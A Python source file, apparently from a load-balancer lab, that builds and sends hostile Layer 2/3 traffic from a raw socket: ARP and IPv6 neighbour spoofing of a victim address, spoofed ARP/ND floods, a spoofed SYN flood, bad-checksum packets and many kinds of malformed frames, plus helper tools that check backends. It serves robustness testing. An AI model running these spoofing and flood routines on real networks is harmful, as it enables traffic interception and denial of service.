#!/usr/bin/python3
"""A hostile L2 segment for the lbd lab (GitHub issue 11, "Survive a hostile network").

Attacks, sent from a raw AF_PACKET socket bound to an interface (frames are built first, with
scapy or by hand, then written back to back; scapy's per-packet sendp is far too slow):

  spoof-arp    one unsolicited ARP reply (unicast to the LB) and one gratuitous ARP (broadcast)
               claiming the victim's IPv4 address with a foreign MAC
  spoof-na     one unsolicited neighbour advertisement (Override, not Solicited) claiming the
               victim's IPv6 address with a foreign MAC, to the LB and to all nodes
  arp-flood    ARP (and ND) from N spoofed senders: replies, gratuitous ARPs, requests for the
               LB's address and the VIP, neighbour solicitations from random on-link sources
  cksum        TCP and UDP to the VIP with bad checksums, and good ones as a control; every
               payload carries a tag (LBTAG:<kind>) that sniff-check counts at the backends
  storm        tens of thousands of malformed frames of every kind, plus a spoofed SYN flood
  synflood     only the spoofed SYN flood

Lab helpers (no scapy needed):

  sniff-check  on a backend: capture everything arriving on an interface and verify each IPv4
               and IPv6 packet (IP header, TCP/UDP/ICMP header, length and checksum); exit 1 if
               a malformed packet arrived; what is legal but suspect (IPv4 options and source
               routes, martian sources, TTL 0, odd TCP flags, RFC 1858 fragments, UDP length
               short of the IP payload) is counted as a warning, not a failure
  echo-server  a threaded TCP echo server (both families)
  echo-client  a held TCP connection that sends a line every --interval and checks the echo;
               prints one `summary {json}` line at the end (--duration, or SIGTERM)
  probe        HTTP probes every --interval for --duration, counting the answered ones; or with
               --until-ok, one probe after another until one is answered (exit 1 at --deadline)

Every attack prints one summary line: what it sent, counted by kind. Only needs Python 3 and
(for building the attack frames) scapy 2.5 (Debian's python3-scapy).
"""

import argparse
import array
import ipaddress
import json
import os
import random
import signal
import socket
import struct
import sys
import threading
import time

ETH_P_ALL = 0x0003
SOL_PACKET = 263
PACKET_STATISTICS = 6
PACKET_OUTGOING = 4
LITTLE = sys.byteorder == "little"


# --------------------------------------------------------------------------------------------
# Bytes, checksums, sockets


def mac_b(s):
    return bytes.fromhex(s.replace(":", "").replace("-", ""))


def mac_s(b):
    return ":".join(f"{x:02x}" for x in b)


def ip4_b(s):
    return socket.inet_pton(socket.AF_INET, s)


def ip6_b(s):
    return socket.inet_pton(socket.AF_INET6, s)


def ones_sum(data, start=0):
    """16-bit ones' complement sum of `data` (RFC 1071), folded, plus `start`."""
    if len(data) & 1:
        data = bytes(data) + b"\0"
    s = sum(array.array("H", bytes(data)))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    if LITTLE:
        # The sum is independent of byte order up to a swap of its two bytes (RFC 1071, 2(B)).
        s = ((s & 0xFF) << 8) | (s >> 8)
    s += start
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return s


def csum(data, start=0):
    """The Internet checksum of `data` (the value to put in the field)."""
    return (~ones_sum(data, start)) & 0xFFFF


def pseudo4(src, dst, proto, length):
    return ones_sum(src + dst + struct.pack("!BBH", 0, proto, length))


def pseudo6(src, dst, proto, length):
    return ones_sum(src + dst + struct.pack("!IxxxB", length, proto))


def put16(b, off, v):
    b[off : off + 2] = struct.pack("!H", v)


def get16(b, off):
    return (b[off] << 8) | b[off + 1]


def corrupt16(b, off, zero_ok=True):
    """Makes the 16-bit checksum at `off` wrong (never 0 when 0 would mean 'no checksum')."""
    v = get16(b, off)
    for x in (0x0101, 0x0202, 0x1001, 0x8000):
        nv = v ^ x
        # 0x0000 and 0xffff are the same value in ones' complement: avoid swapping them.
        if (v, nv) in ((0, 0xFFFF), (0xFFFF, 0)):
            continue
        if nv == 0 and not zero_ok:
            continue
        put16(b, off, nv)
        return
    raise AssertionError("unreachable")


def raw_socket(iface, sndbuf=4 << 20):
    # Protocol 0: this socket only transmits; it never queues received frames.
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    s.bind((iface, 0))
    try:
        s.setsockopt(socket.SOL_SOCKET, 32, sndbuf)  # SO_SNDBUFFORCE (root)
    except OSError:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, sndbuf)
    return s


def send_frames(iface, frames, rate=0.0):
    """Writes frames (list of (kind, bytes)) back to back, paced to `rate` frames/s if > 0.
    Returns (counts by kind, refused by kind, seconds)."""
    s = raw_socket(iface)
    counts, refused = {}, {}
    t0 = time.monotonic()
    n = 0
    for kind, fr in frames:
        while True:
            try:
                s.send(fr)
                counts[kind] = counts.get(kind, 0) + 1
                break
            except OSError as e:
                if e.errno in (105, 11):  # ENOBUFS, EAGAIN: the device queue is full; retry
                    time.sleep(0.0002)
                    continue
                refused[kind] = refused.get(kind, 0) + 1
                break
        n += 1
        if rate > 0 and n % 16 == 0:
            ahead = t0 + n / rate - time.monotonic()
            if ahead > 0:
                time.sleep(ahead)
    s.close()
    return counts, refused, time.monotonic() - t0


def summary(name, counts, refused, secs):
    total = sum(counts.values())
    kinds = " ".join(f"{k}={v}" for k, v in sorted(counts.items()))
    line = f"{name}: sent {total} frames in {secs:.1f} s ({total / max(secs, 1e-6):.0f}/s): {kinds}"
    if refused:
        line += " | refused by the kernel: " + " ".join(f"{k}={v}" for k, v in sorted(refused.items()))
    print(line, flush=True)


def rand_mac(rng):
    # Locally administered unicast.
    b = bytearray(rng.getrandbits(8) for _ in range(6))
    b[0] = (b[0] & 0xFC) | 0x02
    return bytes(b)


# --------------------------------------------------------------------------------------------
# Hand-built frames (fast paths for floods)


def eth_hdr(dst, src, etype):
    return dst + src + struct.pack("!H", etype)


def ipv4_hdr(src, dst, proto, payload_len, ttl=64, ident=0, flags_frag=0x4000, tos=0, options=b""):
    ihl = 5 + len(options) // 4
    h = bytearray(
        struct.pack("!BBHHHBBH4s4s", (4 << 4) | ihl, tos, ihl * 4 + payload_len, ident, flags_frag, ttl, proto, 0, src, dst)
        + options
    )
    put16(h, 10, csum(h))
    return bytes(h)


def ipv6_hdr(src, dst, nh, payload_len, hlim=64):
    return struct.pack("!IHBB16s16s", 6 << 28, payload_len, nh, hlim, src, dst)


def tcp_seg(src, dst, sport, dport, flags, seq=0, ack=0, payload=b"", v6=False, doff=5, window=64240, urg=0, opts=b""):
    h = bytearray(struct.pack("!HHIIBBHHH", sport, dport, seq, ack, doff << 4, flags, window, 0, urg) + opts)
    seg = h + payload
    ph = pseudo6(src, dst, 6, len(seg)) if v6 else pseudo4(src, dst, 6, len(seg))
    put16(seg, 16, csum(seg, ph))
    return seg


def udp_dgram(src, dst, sport, dport, payload, v6=False):
    seg = bytearray(struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload)
    ph = pseudo6(src, dst, 17, len(seg)) if v6 else pseudo4(src, dst, 17, len(seg))
    c = csum(seg, ph)
    put16(seg, 6, c if c else 0xFFFF)
    return seg


def syn4(lb_mac, src_mac, src, dst, sport, dport, seq, ttl=64, payload=b""):
    seg = tcp_seg(src, dst, sport, dport, 0x02, seq=seq, payload=payload)
    return eth_hdr(lb_mac, src_mac, 0x0800) + ipv4_hdr(src, dst, 6, len(seg), ttl=ttl, ident=seq & 0xFFFF) + bytes(seg)


def arp_frame(eth_dst, eth_src, op, smac, sip, tmac, tip):
    return eth_hdr(eth_dst, eth_src, 0x0806) + struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, op, smac, sip, tmac, tip)


def nd_frame(eth_dst, eth_src, src, dst, kind, target, opt_type, opt_mac, flags=0, hlim=255):
    body = bytearray(struct.pack("!BBHI16s", kind, 0, 0, flags, target) + bytes([opt_type, 1]) + opt_mac)
    put16(body, 2, csum(body, pseudo6(src, dst, 58, len(body))))
    return eth_hdr(eth_dst, eth_src, 0x86DD) + ipv6_hdr(src, dst, 58, len(body), hlim=hlim) + bytes(body)


def mcast_mac6(addr16):
    return b"\x33\x33" + addr16[12:]


# --------------------------------------------------------------------------------------------
# spoof-arp, spoof-na


def cmd_spoof_arp(a):
    lb, mac, victim, lb_ip = mac_b(a.lb_mac), mac_b(a.mac), ip4_b(a.victim_ip), ip4_b(a.lb_ip)
    frames = []
    for _ in range(a.repeat):
        # Unsolicited reply to the LB: "victim is at mac".
        frames.append(("arp_reply_unicast", arp_frame(lb, mac, 2, mac, victim, lb, lb_ip)))
        # Gratuitous ARP (reply form) to everybody: sender and target are the victim.
        frames.append(("arp_gratuitous_broadcast", arp_frame(b"\xff" * 6, mac, 2, mac, victim, b"\xff" * 6, victim)))
    counts, refused, secs = send_frames(a.iface, frames)
    summary(f"spoof-arp ({a.victim_ip} is-at {a.mac})", counts, refused, secs)


def cmd_spoof_na(a):
    lb, mac = mac_b(a.lb_mac), mac_b(a.mac)
    victim, lb_ip = ip6_b(a.victim_ip6), ip6_b(a.lb_ip6)
    all_nodes = ip6_b("ff02::1")
    override = 0x20000000  # R=0, S=0, O=1
    frames = []
    for _ in range(a.repeat):
        frames.append(("na_unicast_to_lb", nd_frame(lb, mac, victim, lb_ip, 136, victim, 2, mac, flags=override)))
        frames.append(
            ("na_all_nodes", nd_frame(mcast_mac6(all_nodes), mac, victim, all_nodes, 136, victim, 2, mac, flags=override))
        )
    counts, refused, secs = send_frames(a.iface, frames)
    summary(f"spoof-na ({a.victim_ip6} is-at {a.mac}, override, unsolicited)", counts, refused, secs)


# --------------------------------------------------------------------------------------------
# arp-flood


def cmd_arp_flood(a):
    rng = random.Random(a.seed)
    lb, lb_ip, vip = mac_b(a.lb_mac), ip4_b(a.lb_ip), ip4_b(a.vip)
    net = ipaddress.ip_network(a.net, strict=False)
    exclude = {ipaddress.ip_address(x) for x in a.exclude.split(",") if x}
    base, size = int(net.network_address), net.num_addresses
    net6 = ipaddress.ip_network(a.ns_net, strict=False)
    lb_ip6 = ip6_b(a.lb_ip6)
    kinds = a.kinds.split(",")
    bcast = b"\xff" * 6
    frames = []
    t_build = time.monotonic()
    for i in range(a.count):
        kind = kinds[i % len(kinds)]
        smac = rand_mac(rng)
        if kind == "ns":
            src = ipaddress.ip_address(int(net6.network_address) + rng.getrandbits(64) % net6.num_addresses)
            src6 = src.packed
            snm = ip6_b("ff02::1:ff00:0")[:13] + lb_ip6[13:]
            frames.append((kind, nd_frame(mcast_mac6(snm), smac, src6, snm, 135, lb_ip6, 1, smac)))
            continue
        while True:
            ip = ipaddress.ip_address(base + rng.randrange(1, size - 1))
            if ip not in exclude:
                break
        sip = ip.packed
        if kind == "reply":
            frames.append((kind, arp_frame(lb, smac, 2, smac, sip, lb, lb_ip)))
        elif kind == "garp":
            frames.append((kind, arp_frame(bcast, smac, 1, smac, sip, b"\0" * 6, sip)))
        elif kind == "req-lb":
            frames.append((kind, arp_frame(bcast, smac, 1, smac, sip, b"\0" * 6, lb_ip)))
        elif kind == "req-vip":
            frames.append((kind, arp_frame(bcast, smac, 1, smac, sip, b"\0" * 6, vip)))
        else:
            sys.exit(f"arp-flood: unknown kind {kind}")
    built = time.monotonic() - t_build
    counts, refused, secs = send_frames(a.iface, frames, a.rate)
    summary(f"arp-flood ({a.count} spoofed senders from {a.net} and {a.ns_net}, built in {built:.1f} s)", counts, refused, secs)


# --------------------------------------------------------------------------------------------
# cksum: bad and good L4 checksums, tagged


def cmd_cksum(a):
    rng = random.Random(a.seed)
    lb, me = mac_b(a.lb_mac), mac_b(a.src_mac)
    c4, v4, c6, v6 = ip4_b(a.client_ip), ip4_b(a.vip), ip6_b(a.client_ip6), ip6_b(a.vip6)
    frames = []

    def tcp_frame(v6f, sport, flags, seq, ack, tag, bad):
        src, dst = (c6, v6) if v6f else (c4, v4)
        seg = bytearray(tcp_seg(src, dst, sport, a.tcp_port, flags, seq=seq, ack=ack, payload=f"LBTAG:{tag} ".encode(), v6=v6f))
        if bad:
            corrupt16(seg, 16)
        if v6f:
            return eth_hdr(lb, me, 0x86DD) + ipv6_hdr(src, dst, 6, len(seg)) + bytes(seg)
        return eth_hdr(lb, me, 0x0800) + ipv4_hdr(src, dst, 6, len(seg), ident=rng.getrandbits(16)) + bytes(seg)

    def udp_frame(v6f, sport, tag, bad, zero=False):
        src, dst = (c6, v6) if v6f else (c4, v4)
        seg = bytearray(udp_dgram(src, dst, sport, a.udp_port, f"LBTAG:{tag} ".encode(), v6=v6f))
        if zero:
            put16(seg, 6, 0)
        elif bad:
            corrupt16(seg, 6, zero_ok=False)
        if v6f:
            return eth_hdr(lb, me, 0x86DD) + ipv6_hdr(src, dst, 17, len(seg)) + bytes(seg)
        return eth_hdr(lb, me, 0x0800) + ipv4_hdr(src, dst, 17, len(seg), ident=rng.getrandbits(16)) + bytes(seg)

    for fam in ("4", "6"):
        v6f = fam == "6"
        for i in range(a.count):
            for good in (True, False):
                q = "good" if good else "bad"
                sport = 20000 + rng.randrange(20000)
                seq = rng.getrandbits(32)
                # A new flow (SYN carrying the tag), then a segment of that flow once it is tracked.
                frames.append((f"{q}-tcp{fam}", tcp_frame(v6f, sport, 0x02, seq, 0, f"{q}-tcp{fam}", not good)))
                if good:
                    frames.append((f"bad-tcp{fam}-est", tcp_frame(v6f, sport, 0x18, seq + 1, 1, f"bad-tcp{fam}-est", True)))
                    frames.append((f"good-tcp{fam}-est", tcp_frame(v6f, sport, 0x18, seq + 1, 1, f"good-tcp{fam}-est", False)))
                frames.append((f"{q}-udp{fam}", udp_frame(v6f, 40000 + rng.randrange(20000), f"{q}-udp{fam}", not good)))
            if v6f:
                # IPv6 forbids a zero UDP checksum (RFC 8200, 8.1).
                frames.append(("bad-udp6z", udp_frame(True, 40000 + rng.randrange(20000), "bad-udp6z", False, zero=True)))
    counts, refused, secs = send_frames(a.iface, frames, a.rate)
    summary("cksum", counts, refused, secs)


# --------------------------------------------------------------------------------------------
# storm: malformed frames of every kind, and the SYN flood


def storm_kinds(a):
    """(name, builder(rng) -> bytes). Builders use scapy for the unusual shapes."""
    from scapy.layers.inet import (
        ICMP,
        IP,
        TCP,
        UDP,
        IPerror,
        TCPerror,
        UDPerror,
    )
    from scapy.layers.inet6 import (
        ICMPv6DestUnreach,
        ICMPv6EchoRequest,
        ICMPv6ND_NA,
        ICMPv6ND_NS,
        ICMPv6NDOptDstLLAddr,
        ICMPv6NDOptSrcLLAddr,
        ICMPv6PacketTooBig,
        IPv6,
        IPv6ExtHdrDestOpt,
        IPv6ExtHdrFragment,
        IPv6ExtHdrHopByHop,
        IPv6ExtHdrRouting,
        IPerror6,
    )
    from scapy.layers.l2 import GRE, Dot1Q, Ether
    from scapy.packet import Raw

    lbm, vip, vip6, lb_ip, lb_ip6 = a.lb_mac, a.vip, a.vip6, a.lb_ip, a.lb_ip6
    tport, uport = a.tcp_port, a.udp_port
    victim, evil = a.client_ip, a.mac

    def rmac(r):
        return mac_s(rand_mac(r))

    def rsrc(r):
        # On-link spoofed sources (never the client, the LB or the VIP) and off-link ones.
        if r.random() < 0.5:
            return f"10.0.0.{r.randrange(3, 99)}"
        return f"198.18.{r.randrange(256)}.{r.randrange(1, 255)}"

    def rsrc6(r):
        return f"fd00::{r.randrange(0x1000, 0xffff):x}:{r.randrange(1, 0xffff):x}"

    def E(r, dst=None, src=None):
        return Ether(dst=dst or lbm, src=src or rmac(r))

    def syn(r, **kw):
        return TCP(sport=r.randrange(1024, 65535), dport=tport, flags="S", seq=r.getrandbits(32), **kw)

    def b(p):
        return bytearray(bytes(p))

    def v4_syn(r, **ipkw):
        return b(E(r) / IP(src=rsrc(r), dst=vip, **ipkw) / syn(r))

    def patch_ip(f, **fields):
        """Rewrites IPv4 header fields of a built frame, then (unless told) its checksum."""
        keep_csum = fields.pop("keep_csum", False)
        if "ihl" in fields:
            f[14] = (f[14] & 0xF0) | fields["ihl"]
        if "version" in fields:
            f[14] = (fields["version"] << 4) | (f[14] & 0x0F)
        if "total" in fields:
            put16(f, 16, fields["total"])
        if not keep_csum:
            ihl = max(5, f[14] & 0x0F) * 4
            put16(f, 24, 0)
            put16(f, 24, csum(f[14 : 14 + min(ihl, len(f) - 14)]))
        return bytes(f)

    K = []

    def kind(name):
        def reg(fn):
            K.append((name, fn))
            return fn

        return reg

    # ---- L2
    @kind("eth_header_only")
    def _(r):
        return eth_hdr(mac_b(lbm), rand_mac(r), r.choice([0x0800, 0x86DD, 0x0806, 0x8100]))

    @kind("eth_short_frame")
    def _(r):
        # Shorter than an Ethernet header: the kernel may refuse these (counted as refused).
        return (mac_b(lbm) + rand_mac(r))[: r.randrange(1, 14)]

    @kind("eth_other_unicast_dst")
    def _(r):
        return bytes(Ether(dst=rmac(r), src=rmac(r)) / IP(src=rsrc(r), dst=vip) / syn(r))

    @kind("eth_multicast_src_mac")
    def _(r):
        return bytes(b(Ether(dst=lbm, src="01:00:5e:00:00:%02x" % r.randrange(256)) / IP(src=rsrc(r), dst=vip) / syn(r)))

    @kind("eth_unknown_ethertype")
    def _(r):
        return eth_hdr(mac_b(lbm), rand_mac(r), r.choice([0x88CC, 0x8863, 0x8864, 0x88E5, 0x9000, 0x0842, r.randrange(0x600, 0xFFFF)])) + os.urandom(r.randrange(0, 100))

    @kind("eth_802_3_length")
    def _(r):
        return eth_hdr(mac_b(lbm), rand_mac(r), r.randrange(0, 1500)) + os.urandom(46)

    @kind("vlan_tagged")
    def _(r):
        return bytes(b(E(r) / Dot1Q(vlan=r.randrange(1, 4095)) / IP(src=rsrc(r), dst=vip) / syn(r)))

    @kind("qinq_tagged")
    def _(r):
        return bytes(b(Ether(dst=lbm, src=rmac(r), type=0x88A8) / Dot1Q(vlan=r.randrange(1, 4095)) / Dot1Q(vlan=r.randrange(1, 4095)) / IP(src=rsrc(r), dst=vip) / syn(r)))

    @kind("vlan_priority_tag_v6")
    def _(r):
        return bytes(b(E(r) / Dot1Q(vlan=0) / IPv6(src=rsrc6(r), dst=vip6) / syn(r)))

    # ---- ARP
    @kind("arp_spoof_client")
    def _(r):
        if r.random() < 0.5:
            return arp_frame(mac_b(lbm), mac_b(evil), 2, mac_b(evil), ip4_b(victim), mac_b(lbm), ip4_b(lb_ip))
        return arp_frame(b"\xff" * 6, mac_b(evil), 1, mac_b(evil), ip4_b(victim), b"\0" * 6, ip4_b(victim))

    @kind("arp_malformed")
    def _(r):
        f = bytearray(arp_frame(b"\xff" * 6, rand_mac(r), 1, rand_mac(r), ip4_b(rsrc(r)), b"\0" * 6, ip4_b(vip)))
        c = r.randrange(5)
        if c == 0:
            return bytes(f[: 14 + r.randrange(0, 28)])  # truncated
        if c == 1:
            f[18], f[19] = 8, 16  # hlen/plen that do not fit
            return bytes(f)
        if c == 2:
            put16(f, 20, r.choice([0, 3, 4, 9, 0xFFFF]))  # opcode
            return bytes(f)
        if c == 3:
            put16(f, 14, r.choice([6, 0x0800, 0xFFFF]))  # hardware type
            put16(f, 16, r.choice([0x86DD, 0]))  # protocol type
            return bytes(f)
        f[22:28] = b"\xff" * 6  # broadcast sender MAC
        return bytes(f)

    @kind("arp_sender_is_vip_or_lb")
    def _(r):
        sip = ip4_b(r.choice([vip, lb_ip, "0.0.0.0", "255.255.255.255", "224.0.0.1"]))
        return arp_frame(mac_b(lbm), rand_mac(r), 2, rand_mac(r), sip, mac_b(lbm), ip4_b(lb_ip))

    # ---- IPv4 header
    @kind("ipv4_truncated_header")
    def _(r):
        f = v4_syn(r)
        return bytes(f[: 14 + r.randrange(1, 20)])

    @kind("ipv4_bad_version")
    def _(r):
        return patch_ip(v4_syn(r), version=r.choice([0, 5, 6, 7, 15]))

    @kind("ipv4_bad_ihl")
    def _(r):
        return patch_ip(v4_syn(r), ihl=r.choice([0, 1, 2, 3, 4]))

    @kind("ipv4_ihl_beyond_total")
    def _(r):
        f = v4_syn(r)
        return patch_ip(f, ihl=15, total=r.choice([20, 40, 59]))

    @kind("ipv4_total_len_over_frame")
    def _(r):
        f = v4_syn(r)
        return patch_ip(f, total=len(f) - 14 + r.randrange(1, 1200))

    @kind("ipv4_total_len_under_header")
    def _(r):
        f = v4_syn(r)
        return patch_ip(f, total=r.randrange(0, 20))

    @kind("ipv4_total_len_cuts_l4")
    def _(r):
        f = v4_syn(r)
        return patch_ip(f, total=20 + r.randrange(0, 20))

    @kind("ipv4_trailing_junk")
    def _(r):
        # Valid datagram followed by bytes beyond its total length (should be trimmed, not sent on).
        return bytes(v4_syn(r)) + os.urandom(r.randrange(1, 64))

    @kind("ipv4_bad_header_checksum")
    def _(r):
        f = v4_syn(r)
        corrupt16(f, 24)
        return bytes(f)

    def with_ip_options(f, opts):
        """Inserts IPv4 options into a built frame (the L4 checksum does not cover them)."""
        ip = bytearray(f[14:34]) + opts
        ip[0] = 0x40 | (len(ip) // 4)
        put16(ip, 2, len(ip) + len(f) - 34)
        put16(ip, 10, 0)
        put16(ip, 10, csum(ip))
        return bytes(f[:14] + ip + f[34:])

    @kind("ipv4_options")
    def _(r):
        opts = r.choice(
            [
                bytes([7, 7, 4, 0, 0, 0, 0, 0]),  # record route
                bytes([148, 4, 0, 0]),  # router alert
                bytes([68, 12, 5, 0]) + bytes(8),  # timestamp
                bytes([1, 1, 1, 0]),  # NOPs, end of list
            ]
        )
        return with_ip_options(v4_syn(r), opts)

    @kind("ipv4_source_route")
    def _(r):
        # Loose/strict source route through the backends (classic spoofing aid).
        opt = r.choice([131, 137])
        return with_ip_options(v4_syn(r), bytes([opt, 11, 4]) + ip4_b("10.1.0.11") + ip4_b("10.1.0.12") + b"\0")

    @kind("ipv4_options_malformed")
    def _(r):
        # An option whose length is 0/1 or runs past the header.
        return with_ip_options(v4_syn(r), bytes([0x07, r.choice([0, 1, 40, 255]), 4, 0]))

    @kind("ipv4_ttl_0_1")
    def _(r):
        return bytes(v4_syn(r, ttl=r.choice([0, 1])))

    @kind("ipv4_martian_source")
    def _(r):
        src = r.choice(["224.0.0.5", "239.1.2.3", "255.255.255.255", "0.0.0.0", "127.0.0.1", "10.0.0.255", vip, lb_ip])
        return bytes(b(E(r) / IP(src=src, dst=vip) / syn(r)))

    @kind("ipv4_broadcast_dst")
    def _(r):
        dst = r.choice(["255.255.255.255", "10.0.0.255", "224.0.0.1"])
        edst = "ff:ff:ff:ff:ff:ff" if dst != "224.0.0.1" else "01:00:5e:00:00:01"
        return bytes(b(Ether(dst=edst, src=rmac(r)) / IP(src=rsrc(r), dst=dst) / TCP(sport=r.randrange(1024, 65535), dport=tport, flags="S")))

    @kind("ipv4_unknown_protocol")
    def _(r):
        return bytes(b(E(r) / IP(src=rsrc(r), dst=r.choice([vip, lb_ip]), proto=r.choice([0, 2, 50, 51, 132, 253, 255])) / Raw(os.urandom(r.randrange(0, 64)))))

    # ---- Fragments (IPv4)
    def frag_pair(r, first_len, second_off8, second_len, mf_second=True):
        """Two fragments of one TCP SYN datagram (the checksum is right for the whole)."""
        src, ident = rsrc(r), r.getrandbits(16)
        # The datagram is exactly what the two fragments hold when they are contiguous.
        plen = first_len + second_len - 20 if second_off8 * 8 == first_len else 64
        full = bytes(IP(src=src, dst=vip) / syn(r) / Raw(os.urandom(max(0, plen))))[20:]
        e = E(r)
        p1 = e / IP(src=src, dst=vip, id=ident, flags="MF", frag=0, proto=6) / Raw(full[:first_len])
        off = second_off8 * 8
        part = full[off : off + second_len] or os.urandom(second_len)
        p2 = e / IP(src=src, dst=vip, id=ident, flags="MF" if mf_second else 0, frag=second_off8, proto=6) / Raw(part)
        return bytes(p1), bytes(p2)

    @kind("frag_first_only")
    def _(r):
        return frag_pair(r, 24, 3, 24)[0]

    @kind("frag_middle_only")
    def _(r):
        return frag_pair(r, 24, r.randrange(1, 50), 24)[1]

    @kind("frag_last_only")
    def _(r):
        return frag_pair(r, 24, r.randrange(3, 50), 16, mf_second=False)[1]

    @kind("frag_tiny_first")
    def _(r):
        # First fragment with only 8 bytes of TCP: flags and offsets live in the next one.
        return frag_pair(r, 8, 1, 24)[0]

    # Pairs are sent back to back: builders may return a list of frames.
    @kind("frag_pair_then_overlap")
    def _(r):
        p1, _ = frag_pair(r, 24, 3, 24)
        # Second fragment at offset 8 bytes: overwrites the TCP flags/offset of the first.
        _, p2 = frag_pair(r, 24, 1, 24)
        q = bytearray(p2)
        q[14 + 4 : 14 + 6] = p1[14 + 4 : 14 + 6]  # same IP id as p1
        q[14 + 12 : 14 + 16] = p1[14 + 12 : 14 + 16]  # same source
        put16(q, 24, 0)
        put16(q, 24, csum(q[14:34]))
        return [p1, bytes(q)]

    @kind("frag_pair")
    def _(r):
        return list(frag_pair(r, 24, 3, 24, mf_second=False))

    # ---- TCP
    def tcp_to_vip(r, v6=False, **kw):
        ipl = IPv6(src=rsrc6(r), dst=vip6) if v6 else IP(src=rsrc(r), dst=vip)
        return b(E(r) / ipl / TCP(sport=r.randrange(1024, 65535), dport=tport, seq=r.getrandbits(32), **kw))

    @kind("tcp_syn_fin")
    def _(r):
        return bytes(tcp_to_vip(r, flags="SF"))

    @kind("tcp_syn_rst")
    def _(r):
        return bytes(tcp_to_vip(r, flags="SR"))

    @kind("tcp_no_flags")
    def _(r):
        return bytes(tcp_to_vip(r, flags=0))

    @kind("tcp_all_flags")
    def _(r):
        return bytes(tcp_to_vip(r, flags=0xFF))

    @kind("tcp_urg")
    def _(r):
        return bytes(tcp_to_vip(r, flags=r.choice(["SU", "AU", "PAU"]), urgptr=r.randrange(65536)))

    @kind("tcp_fin_or_ack_no_conn")
    def _(r):
        return bytes(tcp_to_vip(r, flags=r.choice(["F", "A", "FA", "R", "PA"])))

    @kind("tcp_bad_checksum")
    def _(r):
        f = tcp_to_vip(r, flags="S")
        corrupt16(f, 34 + 16)
        return bytes(f)

    @kind("tcp6_bad_checksum")
    def _(r):
        f = tcp_to_vip(r, v6=True, flags="S")
        corrupt16(f, 54 + 16)
        return bytes(f)

    @kind("tcp_data_offset_below_5")
    def _(r):
        f = tcp_to_vip(r, flags="S")
        f[34 + 12] = r.randrange(0, 5) << 4
        return bytes(f)

    @kind("tcp_data_offset_beyond_segment")
    def _(r):
        f = tcp_to_vip(r, flags="S")
        f[34 + 12] = r.randrange(6, 16) << 4
        return bytes(f)

    @kind("tcp_truncated_header")
    def _(r):
        f = tcp_to_vip(r, flags="S")
        cut = r.randrange(1, 20)
        return patch_ip(bytearray(f[: 34 + cut]), total=20 + cut)

    @kind("tcp6_truncated_header")
    def _(r):
        f = tcp_to_vip(r, v6=True, flags="S")
        cut = r.randrange(1, 20)
        g = bytearray(f[: 54 + cut])
        put16(g, 18, cut)
        return bytes(g)

    @kind("tcp_bad_options")
    def _(r):
        # Option lengths 0/1 or past the header (a mis-parsing LB may loop or read past).
        f = tcp_to_vip(r, flags="S", options=[("NOP", None)] * 4)
        f[54:56] = bytes([r.choice([2, 3, 4, 8, 30]), r.choice([0, 1, 40, 255])])
        put16(f, 34 + 16, 0)
        put16(f, 34 + 16, csum(f[34:], pseudo4(bytes(f[26:30]), bytes(f[30:34]), 6, len(f) - 34)))
        return bytes(f)

    # ---- UDP
    def udp_to_vip(r, v6=False, payload=None):
        ipl = IPv6(src=rsrc6(r), dst=vip6) if v6 else IP(src=rsrc(r), dst=vip)
        return b(E(r) / ipl / UDP(sport=r.randrange(1024, 65535), dport=uport) / Raw(payload or os.urandom(r.randrange(1, 64))))

    @kind("udp_bad_checksum")
    def _(r):
        f = udp_to_vip(r)
        corrupt16(f, 34 + 6, zero_ok=False)
        return bytes(f)

    @kind("udp6_bad_checksum")
    def _(r):
        f = udp_to_vip(r, v6=True)
        corrupt16(f, 54 + 6, zero_ok=False)
        return bytes(f)

    @kind("udp6_zero_checksum")
    def _(r):
        f = udp_to_vip(r, v6=True)
        put16(f, 54 + 6, 0)
        return bytes(f)

    @kind("udp_length_over_payload")
    def _(r):
        f = udp_to_vip(r)
        put16(f, 34 + 4, len(f) - 34 + r.randrange(1, 500))
        return bytes(f)

    @kind("udp_length_below_8")
    def _(r):
        f = udp_to_vip(r)
        put16(f, 34 + 4, r.randrange(0, 8))
        return bytes(f)

    @kind("udp_length_under_payload")
    def _(r):
        # 8 <= length < payload: the checksum covers `length` bytes (Linux trims the rest).
        f = udp_to_vip(r, payload=os.urandom(32))
        ln = 8 + r.randrange(0, 24)
        put16(f, 34 + 4, ln)
        put16(f, 34 + 6, 0)
        c = csum(f[34 : 34 + ln], pseudo4(bytes(f[26:30]), bytes(f[30:34]), 17, ln))
        put16(f, 34 + 6, c or 0xFFFF)
        return bytes(f)

    @kind("udp_truncated_header")
    def _(r):
        f = udp_to_vip(r)
        cut = r.randrange(1, 8)
        return patch_ip(bytearray(f[: 34 + cut]), total=20 + cut)

    # ---- ICMP
    @kind("icmp_error_random_flow")
    def _(r):
        inner = IPerror(src=rsrc(r), dst=f"192.0.2.{r.randrange(1, 255)}") / r.choice(
            [TCPerror(sport=r.randrange(65536), dport=r.randrange(65536)), UDPerror(sport=r.randrange(65536), dport=r.randrange(65536))]
        )
        return bytes(b(E(r) / IP(src=rsrc(r), dst=r.choice([vip, lb_ip])) / ICMP(type=3, code=r.choice([1, 3, 4, 13]), nexthopmtu=68) / inner))

    @kind("icmp_error_quoting_vip_flow")
    def _(r):
        cl = rsrc(r)
        inner = r.choice(
            [
                IPerror(src=vip, dst=cl) / TCPerror(sport=tport, dport=r.randrange(1024, 65535), flags="SA"),
                IPerror(src=vip, dst=cl) / UDPerror(sport=uport, dport=r.randrange(1024, 65535)),
            ]
        )
        code = r.choice([1, 3, 4, 13])
        return bytes(b(E(r) / IP(src=cl, dst=vip) / ICMP(type=r.choice([3, 11]), code=code, nexthopmtu=r.choice([0, 68, 576])) / inner))

    @kind("icmp_error_truncated_quote")
    def _(r):
        inner = bytes(IP(src=vip, dst=rsrc(r)) / TCP(sport=tport, dport=r.randrange(1024, 65535)))
        cut = inner[: r.choice([0, 4, 19, 20, 24])]
        q = bytearray(cut)
        if len(q) >= 1 and r.random() < 0.5:
            q[0] = 0x4F if r.random() < 0.5 else 0x41  # inner IHL 15 / 1
        return bytes(b(E(r) / IP(src=rsrc(r), dst=vip) / ICMP(type=3, code=4) / Raw(bytes(q))))

